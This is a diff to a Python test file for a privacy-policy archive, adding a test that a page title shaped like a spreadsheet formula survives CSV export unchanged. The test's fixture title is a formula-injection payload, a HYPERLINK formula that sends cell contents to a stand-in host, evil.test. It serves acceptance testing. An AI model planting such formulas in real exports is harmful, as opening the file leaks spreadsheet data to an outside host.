@@ -9,14 +9,18 @@ import sqlite3
 import stat
 import subprocess
 
-from review_data import PATH, handmade_history
+from review_data import PATH, handmade_commit, handmade_history
 from standin.cli import EXPORT_COLUMNS, git, run_cli
 
 from policy_archive.archive import history
 from policy_archive.archive.history import version_commits
 from policy_archive.archive.versions import VersionStore
+from policy_archive.pipeline.exports import csv as csv_export
 from policy_archive.pipeline.exports import format_names
+from policy_archive.pipeline.exports._rows import ExportSource
+from policy_archive.pipeline.jobs.progress import Progress
 from policy_archive.pipeline.jobs.provenance import HEADER_PATTERN
+from policy_archive.records import DocumentDeclaration
 
 
 def test_history_gives_trailers_stated_date_and_body_line_counts(tmp_path):
@@ -86,6 +90,23 @@ def test_csv_reads_back_with_the_same_rows(recorded, tmp_path):
     assert [list(row) for row in rows] == [EXPORT_COLUMNS, EXPORT_COLUMNS]
     for row, want in zip(rows, expected, strict=True):
         assert row == {key: "" if value is None else str(value) for key, value in want.items()}
+
+
+def test_csv_keeps_a_title_reading_as_a_formula_exactly(tmp_path):
+    """Acceptance report 6, F-d4: a page titled as a spreadsheet formula keeps its title byte for byte (the data is
+    what researchers study; README's export section says to import the CSV as text). ``text`` always starts with
+    ``# ``, so the title is the one page-controlled cell that can start with ``=``, ``+``, ``-`` or ``@``."""
+    repo = tmp_path / "versions"
+    subprocess.run(["git", "init", "-q", "-b", "main", str(repo)], check=True)
+    title = '=HYPERLINK("http://evil.test/?x="&A1,"Privacy Policy")'
+    handmade_commit(repo, "2017-03-01T12:00:00Z", "- We collect your e-mail.\n", "", title=title)
+    declaration = DocumentDeclaration("example", "Example", "privacy-policy", "https://example.org/privacy")
+    source = ExportSource([declaration], VersionStore(repo, read_only=True), Progress("t"))
+    csv_export.export(source, tmp_path / "v.csv")
+    with (tmp_path / "v.csv").open(newline="", encoding="utf-8") as handle:
+        (row,) = csv.DictReader(handle)
+    assert row["title"] == title
+    assert row["text"] == f"# {title}\n\n- We collect your e-mail.\n"
 
 
 def test_sqlite_is_searchable_and_lists_documents(recorded, tmp_path):
